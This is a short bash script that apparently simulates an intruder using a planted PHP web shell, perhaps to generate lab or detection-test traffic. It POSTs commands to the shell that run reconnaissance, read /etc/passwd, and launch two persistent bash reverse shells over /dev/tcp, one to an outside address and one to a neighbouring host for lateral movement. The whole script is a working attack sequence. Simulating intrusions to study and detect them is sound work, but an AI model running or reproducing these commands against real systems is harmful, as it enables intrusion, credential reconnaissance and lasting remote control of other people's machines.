#!/bin/bash
# The intruder posts commands to the web shell, from outside: the last ones open reverse shells that stay, one to the
# outside and one to a neighbour that is his already.
# FROM, TO: addresses.
set -eu
: "${FROM:?}" "${TO:?}"
trap 'ip address del "$FROM/32" dev lo' EXIT
ip address add "$FROM/32" dev lo
post() { curl -sf --max-time 20 --interface "$FROM" -A python-requests/2.31.0 --data-urlencode "cmd=$1" "http://$TO/uploads/cache.php"; }
post id
post 'uname -a'
post 'cat /etc/passwd' >/dev/null
post 'nohup setsid bash -c "exec bash -i >& /dev/tcp/203.0.113.66/4444 0>&1" >/dev/null 2>&1 </dev/null &'
post 'nohup setsid bash -c "exec bash -i >& /dev/tcp/10.20.1.99/4444 0>&1" >/dev/null 2>&1 </dev/null &'
